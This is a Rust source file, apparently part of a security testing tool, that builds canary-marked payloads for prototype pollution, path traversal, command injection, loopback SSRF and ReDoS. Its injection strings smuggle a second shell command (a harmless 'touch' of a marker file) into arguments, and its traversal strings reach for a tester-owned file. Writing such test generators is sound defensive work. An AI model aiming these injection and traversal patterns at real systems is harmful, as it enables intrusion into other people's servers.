//! The payloads. Each does nothing but leave its mark: a key, a file, a request.

use serde_json::{Value, json};

use super::Class;
use super::fill::Kind;

/// What shows that something worked. All of it is the tester's own.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Canary {
    /// Begins every mark; letters and digits, at random.
    pub word: String,
    /// A file that the server must not read.
    pub file: String,
    /// The same, by a way that begins with a folder that the server may read, where one is known.
    pub beside: Option<String>,
    /// What is in it, at random.
    pub content: String,
    /// A folder in which commands leave their marks.
    pub folder: String,
    /// A loopback address that notes what is fetched: `http://127.0.0.1:PORT`.
    pub address: String,
}

/// One payload, before it has a place.
#[derive(Debug)]
pub(super) struct Payload {
    pub(super) what: &'static str,
    /// What shows itself when it works.
    pub(super) mark: String,
    is_object: bool,
    value: Value,
}

impl Payload {
    /// As an argument of that kind; none where it cannot be one.
    pub(super) fn fits(&self, kind: Kind) -> Option<Value> {
        match (kind, self.is_object) {
            (Kind::Text, false) | (Kind::Object, true) | (Kind::Any, _) => Some(self.value.clone()),
            (Kind::Texts, false) => Some(json!([self.value])),
            // What is given as a text is often read as JSON.
            (Kind::Text, true) => Some(Value::String(self.value.to_string())),
            (Kind::Object, false) | (Kind::Texts, true) => None,
        }
    }
}

/// Makes payloads, each with a mark of its own.
pub(super) struct Maker<'a> {
    canary: &'a Canary,
    made: usize,
}

impl<'a> Maker<'a> {
    pub(super) fn new(canary: &'a Canary) -> Self {
        Self { canary, made: 0 }
    }

    /// All payloads of a class.
    pub(super) fn payloads(&mut self, class: Class) -> Vec<Payload> {
        match class {
            Class::PrototypePollution => self.pollution(),
            Class::PathTraversal => self.traversal(),
            Class::CommandInjection => self.injection(),
            Class::Ssrf => self.ssrf(),
            Class::ReDos => self.redos(),
        }
    }

    fn one(&mut self, what: &'static str, value: impl FnOnce(&Canary, &str) -> Value) -> Payload {
        let mark = format!("{}x{}", self.canary.word, self.made);
        self.made += 1;
        let value = value(self.canary, &mark);
        Payload {
            what,
            mark,
            is_object: value.is_object(),
            value,
        }
    }

    fn text(&mut self, what: &'static str, text: impl FnOnce(&Canary, &str) -> String) -> Payload {
        self.one(what, |canary, mark| Value::String(text(canary, mark)))
    }

    fn pollution(&mut self) -> Vec<Payload> {
        vec![
            self.one(
                "`__proto__` in an object",
                |_, mark| json!({ "__proto__": { mark: "1" } }),
            ),
            self.one(
                "`constructor.prototype` in an object",
                |_, mark| json!({ "constructor": { "prototype": { mark: "1" } } }),
            ),
        ]
    }

    fn traversal(&mut self) -> Vec<Payload> {
        let up = |way: &'static str| {
            move |canary: &Canary, _: &str| {
                format!("{}{}", way.repeat(12), canary.file.trim_start_matches('/'))
            }
        };
        let mut payloads = vec![
            self.text("an absolute path", |canary, _| canary.file.clone()),
            self.text("a path with `..`", up("../")),
            self.text("a path with `..` written as `%2e%2e%2f`", up("%2e%2e%2f")),
            self.text("a path with `....//`", up("....//")),
            self.text("a `file:` address", |canary, _| {
                format!("file://{}", canary.file)
            }),
            self.text("a path with a null byte", |canary, _| {
                format!("{}\0.txt", canary.file)
            }),
        ];
        if let Some(beside) = self.canary.beside.clone() {
            payloads.push(self.text("a path that begins like an allowed folder", |_, _| beside));
        }
        payloads
    }

    fn injection(&mut self) -> Vec<Payload> {
        let command = |before: &'static str, after: &'static str| {
            move |canary: &Canary, mark: &str| {
                format!("{before}touch {}/{mark}{after}", canary.folder)
            }
        };
        vec![
            self.text("`; command`", command("x; ", " #")),
            self.text("`$(command)`", command("$(", ")")),
            self.text("a command in backquotes", command("`", "`")),
            self.text("`| command`", command("x | ", " #")),
            self.text("`&& command`", command("x && ", " #")),
            self.text("a line break and a command", command("x\n", "\n")),
            self.text("a command behind a single quote", command("x'; ", " #")),
            self.text("a command behind a double quote", command("x\"; ", " #")),
            self.text(
                "an option that runs a command",
                command("--upload-pack=", ""),
            ),
        ]
    }

    fn ssrf(&mut self) -> Vec<Payload> {
        let host = |host: &'static str| {
            move |canary: &Canary, mark: &str| {
                let port = canary.address.rsplit(':').next().unwrap_or_default();
                format!("http://{host}:{port}/{mark}")
            }
        };
        vec![
            self.text("a loopback address", host("127.0.0.1")),
            self.text("`localhost`", host("localhost")),
            self.text(
                "a loopback address written as IPv6",
                host("[::ffff:127.0.0.1]"),
            ),
            self.text("a loopback address written as a number", host("2130706433")),
        ]
    }

    fn redos(&mut self) -> Vec<Payload> {
        let many = |of: &'static str, times: usize, end: &'static str| {
            move |_: &Canary, _: &str| format!("{}{end}", of.repeat(times))
        };
        vec![
            self.text("many of one letter and another end", many("a", 40_000, "!")),
            self.text("many blanks and another end", many(" ", 40_000, "x")),
            self.text("many slashes", many("/", 40_000, "\n")),
            self.text("nested braces", many("{a,", 4_000, "")),
            self.text("many digits and another end", many("1", 40_000, "x")),
        ]
    }
}
